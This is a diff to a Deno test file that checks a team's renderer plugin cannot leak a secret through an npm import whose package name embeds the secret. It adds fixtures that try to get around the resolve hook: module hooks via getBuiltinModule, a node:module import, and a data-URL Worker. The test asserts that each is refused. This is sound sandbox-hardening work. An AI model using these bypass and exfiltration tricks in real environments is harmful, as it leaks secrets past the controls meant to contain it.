@@ -60,6 +60,33 @@ Deno.test("render: a team's renderer cannot reach a host through import()", asyn
         `"npm:brigade-leak-" + `,
       ),
     );
+    // Around the resolve hook: a hook of its own (ahead of the command's), or a worker (which no
+    // hook sees), to have Deno fetch an npm package named with what was read.
+    const npmLeak = `"npm:brigade-leak-" + secret()`;
+    await Deno.writeTextFile(
+      join(temp, "hooks.ts"),
+      leaking("hooks", "render", base).replace(
+        /await import\(.*\);/,
+        `(globalThis as any).process.getBuiltinModule("module").registerHooks({
+    resolve: (s: string) => ({ url: s, shortCircuit: true }),
+  });
+  await import(${npmLeak});`,
+      ),
+    );
+    await Deno.writeTextFile(
+      join(temp, "named_hooks.ts"),
+      `import { registerHooks } from "node:module";\nvoid registerHooks;\n${
+        leaking("named-hooks", "render", base)
+      }`,
+    );
+    await Deno.writeTextFile(
+      join(temp, "worker.ts"),
+      leaking("worker", "render", base).replace(
+        /await import\(.*\);/,
+        `new Worker("data:text/javascript," + encodeURIComponent(\`import(\${JSON.stringify(${npmLeak})})\`), { type: "module" });
+  await new Promise((resolve) => setTimeout(resolve, 2000));`,
+      ),
+    );
     await Deno.writeTextFile(
       join(temp, "deno.json"),
       JSON.stringify({
@@ -68,6 +95,9 @@ Deno.test("render: a team's renderer cannot reach a host through import()", asyn
             "at-render": "./at_render.ts",
             "at-import": "./at_import.ts",
             npm: "./npm.ts",
+            hooks: "./hooks.ts",
+            "named-hooks": "./named_hooks.ts",
+            worker: "./worker.ts",
           },
         },
       }),
@@ -103,6 +133,24 @@ Deno.test("render: a team's renderer cannot reach a host through import()", asyn
         assert.equal(result.code, 1, result.stderr);
         assert.match(result.stderr, refused);
         assert.doesNotMatch(result.stderr, /registry\.npmjs\.org|does not exist/);
+      });
+      await t.step(`${way}: around the hook`, async () => {
+        for (
+          const [name, code, why] of [
+            ["hooks", 1, /Cannot add module hooks: a team's renderer may not/],
+            [
+              "named-hooks",
+              2,
+              /Cannot load .*named_hooks\.ts: it imports "node:module", and a team's renderer may not add/,
+            ],
+            ["worker", 1, /Cannot start a worker: a team's renderer may not/],
+          ] as const
+        ) {
+          const result = await command(["--renderer", name]);
+          assert.equal(result.code, code, `${name}: ${result.stderr}`);
+          assert.match(result.stderr, why);
+          assert.doesNotMatch(result.stderr, /registry\.npmjs\.org|does not exist/);
+        }
       });
     }
     await t.step("--session, in the worker that may read the key and reach the API", async () => {
